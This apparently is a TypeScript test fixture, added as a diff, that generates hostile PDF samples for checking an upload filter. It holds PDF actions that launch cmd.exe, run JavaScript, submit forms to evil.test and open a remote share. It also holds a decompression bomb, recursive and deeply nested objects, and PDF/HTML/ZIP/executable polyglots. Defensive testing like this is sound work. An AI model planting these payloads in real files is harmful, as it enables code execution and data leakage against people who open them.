@@ -1,0 +1,81 @@
+import { deflateRawSync, deflateSync } from 'node:zlib'
+import { zipOf } from './foreign-files.ts'
+import { type HostileFile, noise, sizesMax } from './hostile-file.ts'
+
+/** PDFs are kept as opaque bytes and never opened here: what they hold must do nothing. */
+export function hostilePdfs(): HostileFile[] {
+	const action = (what: string, open: string): HostileFile => harmless(what, pdfOf(`/OpenAction ${open}`))
+	const bomb = deflateSync(Buffer.alloc(60_000_000))
+	return [
+		action('a PDF with a script', '<< /S /JavaScript /JS (app.alert(1)) >>'),
+		action('a PDF that starts a program', '<< /S /Launch /F (cmd.exe) >>'),
+		action('a PDF that sends a form', '<< /S /SubmitForm /F (https://evil.test) >>'),
+		action('a PDF that opens another file', '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share) >>'),
+		harmless(
+			'a PDF with a password',
+			pdfOf('', '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>'),
+		),
+		harmless('a PDF with a file inside', pdfOf('/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>')),
+		harmless('a PDF with a form in XML', pdfOf('/AcroForm << /XFA (<script>) >>')),
+		harmless('a PDF with a bomb in a stream', pdfOf('', '', bomb)),
+		harmless(
+			'a PDF whose objects name each other',
+			Buffer.from('%PDF-1.7\n1 0 obj 2 0 R endobj\n2 0 obj 1 0 R endobj\n%%EOF'),
+		),
+		harmless(
+			'a PDF nested ten thousand deep',
+			Buffer.from(`%PDF-1.7\n1 0 obj ${'['.repeat(10_000)}${']'.repeat(10_000)} endobj\n%%EOF`),
+		),
+		harmless(
+			'a PDF that is an archive as well',
+			Buffer.concat([pdfOf(), zipOf('a.html', deflateRawSync('<script>'))]),
+		),
+		harmless(
+			'a PDF that is a page as well',
+			Buffer.concat([pdfOf(), Buffer.from('<html><script>alert(1)</script></html>')]),
+		),
+		harmless(
+			'a PDF that is a program as well',
+			Buffer.concat([pdfOf(), Buffer.from('4d5a9000', 'hex'), noise(1_000)]),
+		),
+		harmless('a PDF with nothing in it', Buffer.from('%PDF-1.7')),
+		harmless('a PDF of zeros', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000)])),
+		refused('a PDF after other bytes', Buffer.concat([noise(100), pdfOf()])),
+		refused('a PDF after a mark of its byte order', Buffer.concat([Buffer.from('\ufeff'), pdfOf()])),
+		refused('a PDF after a page', Buffer.concat([Buffer.from('<html>'), pdfOf()])),
+		refused('half the first bytes of a PDF', Buffer.from('%PD')),
+		{ ...refused('a PDF one byte too large', Buffer.alloc(0)), bytes: () => padded(sizesMax.supporting + 1) },
+		{ ...harmless('a PDF of just the size', Buffer.alloc(0)), bytes: () => padded(sizesMax.supporting) },
+		{
+			...refused('a PDF one byte too large for a licence', Buffer.alloc(0)),
+			bytes: () => padded(sizesMax.licence + 1),
+			sizeBytesMax: sizesMax.licence,
+		},
+	]
+}
+
+const harmless = (what: string, bytes: Buffer): HostileFile => ({
+	what,
+	name: 'pay-stub.pdf',
+	bytes: () => bytes,
+	fate: 'harmless',
+})
+const refused = (what: string, bytes: Buffer): HostileFile => ({ ...harmless(what, bytes), fate: 'refused' })
+
+function padded(size: number): Buffer {
+	const pdf = pdfOf()
+	return Buffer.concat([pdf, Buffer.alloc(size - pdf.length)])
+}
+
+/** A PDF of one empty page. */
+function pdfOf(catalog = '', trailer = '', stream = Buffer.from('')): Buffer {
+	const filter = stream.length ? '/Filter /FlateDecode' : ''
+	return Buffer.concat([
+		Buffer.from(
+			`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n` +
+				`3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj\n4 0 obj << /Length ${stream.length} ${filter} >> stream\n`,
+		),
+		stream,
+		Buffer.from(`\nendstream endobj\ntrailer << /Root 1 0 R ${trailer} >>\n%%EOF\n`),
+	])
+}
